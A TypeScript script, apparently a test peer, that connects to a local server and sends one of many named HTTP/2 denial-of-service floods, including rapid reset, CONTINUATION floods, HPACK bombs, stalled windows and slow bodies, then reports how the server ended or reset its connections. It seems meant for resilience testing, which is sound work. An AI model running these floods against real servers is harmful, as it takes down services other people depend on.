/**
 * One hostile peer: `http2Flooder.ts PORT FLOOD SECONDS` sends a flood over HTTP/2 as fast as it can, connects again
 * whenever it is cut off, and says at the end what became of it: `{ connections, octets, ends, resets, statuses }`. On a
 * slow machine it goes on until it has seen what becomes of such a flood.
 */
import * as Net from "node:net"

const [port, name, seconds] = process.argv.slice(2)

const frame = (type: number, flags: number, streamId: number, payload: Uint8Array): Buffer => {
  const octets = Buffer.alloc(9 + payload.length)
  octets.writeUIntBE(payload.length, 0, 3)
  octets[3] = type
  octets[4] = flags
  octets.writeUInt32BE(streamId, 5)
  octets.set(payload, 9)
  return octets
}

const [DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, , PING, , WINDOW_UPDATE, CONTINUATION] =
  Array(10).keys()
const [END_STREAM, END_HEADERS] = [1, 4]

const uint32 = (value: number): Buffer => {
  const octets = Buffer.alloc(4)
  octets.writeUInt32BE(value)
  return octets
}

const literal = (index: number, text: string): Buffer =>
  Buffer.concat([Uint8Array.of(index, text.length), Buffer.from(text)])

// Fields of the static table and literals that enter no table, so that a block is the same on every stream.
const block = (method: "GET" | "POST", path: string): Buffer =>
  Buffer.concat([
    Uint8Array.of(method === "GET" ? 0x82 : 0x83, 0x86),
    literal(0x04, path),
    literal(0x01, "a")
  ])

const request = (streamId: number, method: "GET" | "POST", path: string): Buffer =>
  frame(HEADERS, END_HEADERS | (method === "GET" ? END_STREAM : 0), streamId, block(method, path))

const windowUpdate = (streamId: number, increment: number): Buffer =>
  frame(WINDOW_UPDATE, 0, streamId, uint32(increment))

const times = (count: number, octets: Buffer): Buffer => Buffer.concat(Array(count).fill(octets))

/** A flood: what its connection sends, first and then again and again, and what it answers. */
interface Flood {
  /** SETTINGS_INITIAL_WINDOW_SIZE. */
  readonly window?: number
  readonly begin?: (next: () => number) => Buffer
  readonly again?: (next: () => number) => Buffer
  /** What it sends when a stream was reset. */
  readonly over?: (next: () => number) => Buffer
  /** What it says to each DATA frame. */
  readonly onData?: Buffer
  /** What it has to have seen. Default: that it was cut off. */
  readonly seen?: () => boolean
  /** Whether it leaves as soon as it has begun. */
  readonly leaves?: boolean
}

const streams = (count: number, each: (streamId: number) => Buffer) => (next: () => number) =>
  Buffer.concat(Array.from({ length: count }, () => each(next())))

// A field of 4,000 octets that enters the table, and 200 references to it.
const length7 = (length: number): Uint8Array => {
  const rest = length - 127
  return rest < 128 ? Uint8Array.of(127, rest) : Uint8Array.of(127, (rest & 127) | 128, rest >> 7)
}
const large = (length: number): Buffer => Buffer.concat([length7(length), Buffer.alloc(length, "y")])

const floods: Readonly<Record<string, Flood>> = {
  "rapid reset": {
    again: streams(500, (id) =>
      Buffer.concat([request(id, "GET", "/never"), frame(RST_STREAM, 0, id, uint32(8))])
    )
  },
  "provoked resets": {
    again: streams(500, (id) => Buffer.concat([request(id, "GET", "/never"), windowUpdate(id, 0)]))
  },
  "more streams than are allowed": { again: streams(500, (id) => request(id, "GET", "/never")) },
  CONTINUATION: {
    begin: (next) => frame(HEADERS, 0, next(), block("GET", "/")),
    again: () => times(3_000, frame(CONTINUATION, 0, 1, Uint8Array.of(0x86)))
  },
  "empty CONTINUATION": {
    begin: (next) => frame(HEADERS, 0, next(), block("GET", "/")),
    again: () => times(3_000, frame(CONTINUATION, 0, 1, new Uint8Array(0)))
  },
  SETTINGS: { again: () => times(3_000, frame(SETTINGS, 0, 0, Buffer.from("000400010000", "hex"))) },
  PING: { again: () => times(3_000, frame(PING, 0, 0, new Uint8Array(8))) },
  "empty DATA": {
    begin: (next) => request(next(), "POST", "/up"),
    again: () => times(5_000, frame(DATA, 0, 1, new Uint8Array(0)))
  },
  "DATA of an octet that nobody reads": {
    begin: (next) =>
      Buffer.concat(
        Array.from({ length: 4 }, next).flatMap((id) => [
          request(id, "POST", "/stall"),
          times(262_144, frame(DATA, 0, id, Uint8Array.of(0)))
        ])
      ),
    seen: () => true
  },
  priorities: { again: () => times(3_000, frame(PRIORITY, 0, 1, Uint8Array.of(0, 0, 0, 3, 0))) },
  "frames of an unknown type": { again: () => times(5_000, frame(0xfa, 0, 0, new Uint8Array(0))) },
  "tiny windows": {
    window: 0,
    begin: (next) => Buffer.concat([request(next(), "GET", "/down"), windowUpdate(1, 1)]),
    // One at a time: those that come together are one.
    onData: windowUpdate(1, 1)
  },
  "windows for nothing": { again: () => times(5_000, windowUpdate(0, 1)) },
  "HPACK bombs": {
    begin: (next) =>
      frame(
        HEADERS,
        END_HEADERS | END_STREAM,
        next(),
        Buffer.concat([block("GET", "/"), literal(0x40, "x"), large(4_000)])
      ),
    again: streams(200, (id) =>
      frame(
        HEADERS,
        END_HEADERS | END_STREAM,
        id,
        Buffer.concat([block("GET", "/"), new Uint8Array(200).fill(0xbe)])
      )
    )
  },
  "header lists over the limit": {
    again: streams(4, (id) => {
      const fields = Buffer.concat([
        block("GET", "/"),
        ...Array(4)
          .fill([literal(0, "x"), large(4_200)])
          .flat()
      ])
      return Buffer.concat([
        frame(HEADERS, END_STREAM, id, fields.subarray(0, 16_384)),
        frame(CONTINUATION, END_HEADERS, id, fields.subarray(16_384))
      ])
    })
  },
  "slow bodies": {
    begin: streams(100, (id) => request(id, "POST", "/up")),
    over: (next) => request(next(), "POST", "/up"),
    seen: () => (told.statuses.other ?? 0) > 100
  },
  "stalled windows": {
    window: 0,
    begin: streams(100, (id) => request(id, "GET", "/down")),
    over: (next) => request(next(), "GET", "/down"),
    seen: () => (told.resets.CANCEL ?? 0) > 100
  },
  "connections that leave at once": {
    begin: (next) => request(next(), "GET", "/never"),
    leaves: true,
    seen: () => told.connections > 10
  }
}

const flood = floods[name]
const codes =
  "NO_ERROR PROTOCOL_ERROR INTERNAL_ERROR FLOW_CONTROL_ERROR SETTINGS_TIMEOUT STREAM_CLOSED FRAME_SIZE_ERROR REFUSED_STREAM CANCEL COMPRESSION_ERROR CONNECT_ERROR ENHANCE_YOUR_CALM".split(
    " "
  )

interface Told {
  connections: number
  octets: number
  readonly ends: Record<string, number>
  readonly resets: Record<string, number>
  readonly statuses: Record<string, number>
}

const told: Told = { connections: 0, octets: 0, ends: {}, resets: {}, statuses: {} }

const count = (of: Record<string, number>, what: string): void => {
  of[what] = (of[what] ?? 0) + 1
}

let stopped = false

const connect = (): void => {
  if (stopped) return
  const socket = Net.connect(Number(port), "127.0.0.1")
  socket.setNoDelay(true)
  told.connections++
  let id = -1
  const next = () => (id += 2)
  let rest: Buffer = Buffer.alloc(0)
  const send = (octets: Buffer): boolean => {
    told.octets += octets.length
    return socket.write(octets)
  }
  const take = (type: number, payload: Buffer): void => {
    if (type === 7) count(told.ends, codes[payload.readUInt32BE(4)])
    if (type === RST_STREAM) count(told.resets, codes[payload.readUInt32BE(0)])
    // The status stands first: an index of the static table, or a literal with its three digits.
    if (type === HEADERS) count(told.statuses, payload[0] === 0x88 ? "200" : "other")
    if (type === DATA && flood.onData !== undefined) send(flood.onData)
    if (type === RST_STREAM && flood.over !== undefined) send(flood.over(next))
  }
  socket.on("data", (chunk: Buffer) => {
    rest = rest.length === 0 ? chunk : Buffer.concat([rest, chunk])
    while (rest.length >= 9) {
      const end = 9 + rest.readUIntBE(0, 3)
      if (rest.length < end) break
      take(rest[3], rest.subarray(9, end))
      rest = rest.subarray(end)
    }
  })
  socket.on("error", () => {})
  socket.on("close", () => setImmediate(connect))
  socket.on("connect", () => {
    send(
      Buffer.concat([
        Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
        frame(
          SETTINGS,
          0,
          0,
          flood.window === undefined
            ? new Uint8Array(0)
            : Buffer.concat([Uint8Array.of(0, 4), uint32(flood.window)])
        ),
        frame(SETTINGS, 1, 0, new Uint8Array(0)),
        ...(flood.begin === undefined ? [] : [flood.begin(next)])
      ])
    )
    if (flood.leaves === true) return void socket.end()
    const go = (): void => {
      if (stopped || socket.destroyed || flood.again === undefined) return
      if (send(flood.again(next))) setImmediate(go)
      else socket.once("drain", go)
    }
    go()
  })
}

connect()
process.stdout.write("begun\n")
const seen = flood.seen ?? (() => Object.keys(told.ends).length > 0)
const finish = (): void => {
  if (!seen()) return void setTimeout(finish, 50)
  stopped = true
  process.stdout.write(`${JSON.stringify(told)}\n`, () => process.exit(0))
}
setTimeout(finish, Number(seconds) * 1_000)
